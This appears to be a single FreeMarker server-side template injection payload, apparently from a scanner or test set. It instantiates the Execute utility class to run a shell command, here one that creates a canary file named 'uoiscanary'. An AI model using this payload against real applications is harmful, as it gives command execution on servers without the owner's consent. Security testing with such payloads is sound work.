<#assign x = "freemarker.template.utility.Execute"?new()>
[=x("touch uoiscanary")]
